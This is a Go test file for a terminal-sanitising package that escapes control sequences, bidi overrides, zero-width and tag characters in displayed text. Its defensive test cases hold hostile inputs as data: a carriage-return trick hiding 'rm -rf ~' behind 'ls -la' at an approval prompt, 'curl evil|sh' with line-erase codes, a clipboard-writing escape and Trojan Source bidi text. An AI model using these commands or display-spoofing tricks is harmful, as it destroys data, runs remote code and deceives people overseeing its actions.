package termsafe

import (
	"bytes"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	for _, c := range []struct {
		name, in, escape, text string
	}{
		{"plain ASCII", "ls -la ~/src", "ls -la ~/src", "ls -la ~/src"},
		{"backslashes pass", `grep -E '\d+\.go'`, `grep -E '\d+\.go'`, `grep -E '\d+\.go'`},
		{"non-ASCII text passes", "héllo 日本 ✓ é", "héllo 日本 ✓ é", "héllo 日本 ✓ é"},
		{"newline and tab", "a\n\tb", `a\n\tb`, "a\n\tb"},
		// The approval prompt attack: the terminal shows "ls -la" over
		// what runs.
		{"carriage return overwrite", "rm -rf ~ #\rls -la", `rm -rf ~ #\rls -la`, `rm -rf ~ #\rls -la`},
		{"CSI erase line", "curl evil|sh\x1b[2K\x1b[1Gls", `curl evil|sh\x1b[2K\x1b[1Gls`, `curl evil|sh\x1b[2K\x1b[1Gls`},
		{"cursor up", "x\x1b[1A\x1b[2K", `x\x1b[1A\x1b[2K`, `x\x1b[1A\x1b[2K`},
		{"OSC 52 clipboard, BEL", "\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`, `\x1b]52;c;ZXZpbA==\x07`},
		{"OSC title, ST", "\x1b]0;pwned\x1b\\", `\x1b]0;pwned\x1b\`, `\x1b]0;pwned\x1b\`},
		{"NUL, backspace, DEL", "a\x00b\bc\x7f", `a\x00b\x08c\x7f`, `a\x00b\x08c\x7f`},
		{"C1 CSI as a character", "a\u009b2Jb", `a\u009b2Jb`, `a\u009b2Jb`},
		{"C1 NEL", "a\u0085b", `a\u0085b`, `a\u0085b`},
		{"raw C1 byte is invalid UTF-8", "a\x9b2J", `a\x9b2J`, `a\x9b2J`},
		{"bidi override (Trojan Source)", "access\u202e\u2066 // admin\u2069\u2066", `access\u202e\u2066 // admin\u2069\u2066`, `access\u202e\u2066 // admin\u2069\u2066`},
		{"bidi marks and embeddings", "\u200e\u200f\u202a\u202b\u202c\u202d", `\u200e\u200f\u202a\u202b\u202c\u202d`, `\u200e\u200f\u202a\u202b\u202c\u202d`},
		{"zero-width", "r\u200bm \u200c\u200d\u2060x", `r\u200bm \u200c\u200d\u2060x`, `r\u200bm \u200c\u200d\u2060x`},
		{"BOM and soft hyphen", "\ufeffa\u00adb", `\ufeffa\u00adb`, `\ufeffa\u00adb`},
		{"Arabic letter mark", "a\u061cb", `a\u061cb`, `a\u061cb`},
		{"tag characters (ASCII smuggling)", "ok\U000E0041\U000E007F", `ok\U000e0041\U000e007f`, `ok\U000e0041\U000e007f`},
		{"line separator", "a\u2028b\u2029c", `a\u2028b\u2029c`, `a\u2028b\u2029c`},
		{"invalid bytes stay distinct", "n\xff\xfe", `n\xff\xfe`, `n\xff\xfe`},
		{"truncated rune", "a\xe2\x80", `a\xe2\x80`, `a\xe2\x80`},
		{"surrogate half", "\xed\xa0\x80", `\xed\xa0\x80`, `\xed\xa0\x80`},
		{"CRLF", "a\r\nb", `a\r\nb`, "a\\r\nb"},
	} {
		if got := Escape(c.in); got != c.escape {
			t.Errorf("%s: Escape(%q) = %q, want %q", c.name, c.in, got, c.escape)
		}
		if got := Text(c.in); got != c.text {
			t.Errorf("%s: Text(%q) = %q, want %q", c.name, c.in, got, c.text)
		}
		if Safe(c.in) != (c.in == c.escape) {
			t.Errorf("%s: Safe(%q) = %v", c.name, c.in, Safe(c.in))
		}
		assertShowable(t, c.name, Escape(c.in), false)
		assertShowable(t, c.name, Text(c.in), true)
	}
}

// TestEveryRune: over the whole code space, nothing a terminal interprets
// or hides survives, and every other character passes unchanged.
func TestEveryRune(t *testing.T) {
	for r := rune(0); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue // not encodable in UTF-8
		}
		s := string(r)
		got := Escape(s)
		hidden := r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r)
		if hidden && got == s {
			t.Fatalf("U+%04X passes unescaped", r)
		}
		if !hidden && got != s {
			t.Fatalf("U+%04X is escaped to %q but is shown as itself", r, got)
		}
		assertShowable(t, s, got, false)
	}
}

// assertShowable fails when out still holds a byte or character that a
// terminal would interpret or hide.
func assertShowable(t *testing.T, name, out string, keepLines bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: output %q is not valid UTF-8", name, out)
	}
	for _, r := range out {
		if keepLines && (r == '\n' || r == '\t') {
			continue
		}
		if r < 0x20 || (r >= 0x7f && r <= 0x9f) || r == 0x2028 || r == 0x2029 || unicode.Is(unicode.Cf, r) {
			t.Errorf("%s: output %q still holds U+%04X", name, out, r)
		}
	}
}

// TestWriterKeepsSplitRunes: model text streamed in pieces may cut a
// character in two; the Writer shows it whole, and still escapes an escape
// sequence cut in two.
func TestWriterKeepsSplitRunes(t *testing.T) {
	in := "日本\u202eé\x1b[2J end\n"
	for cut := 0; cut <= len(in); cut++ {
		for cut2 := cut; cut2 <= len(in); cut2++ {
			var b bytes.Buffer
			w := NewWriter(&b)
			for _, p := range []string{in[:cut], in[cut:cut2], in[cut2:]} {
				if n, err := w.WriteString(p); err != nil || n != len(p) {
					t.Fatalf("Write(%q) = %d, %v", p, n, err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			if got, want := b.String(), Text(in); got != want {
				t.Fatalf("cut at %d,%d: %q, want %q", cut, cut2, got, want)
			}
		}
	}
	// An incomplete sequence at the end is shown as bytes by Flush.
	var b bytes.Buffer
	w := NewWriter(&b)
	w.WriteString("a\xe6\x97")
	if b.String() != "a" {
		t.Fatalf("before Flush: %q", b.String())
	}
	w.Flush()
	if b.String() != `a\xe6\x97` {
		t.Fatalf("after Flush: %q", b.String())
	}
	// Invalid bytes that cannot start a rune are not held.
	b.Reset()
	w.WriteString("x\x80\xff")
	if b.String() != `x\x80\xff` {
		t.Fatalf("invalid tail: %q", b.String())
	}
}

func TestCleanTextIsNotCopied(t *testing.T) {
	s := strings.Repeat("plain text, nothing to do ", 100)
	if n := testing.AllocsPerRun(100, func() { _ = Escape(s); _ = Text(s) }); n != 0 {
		t.Errorf("Escape of clean text allocates %v times", n)
	}
}
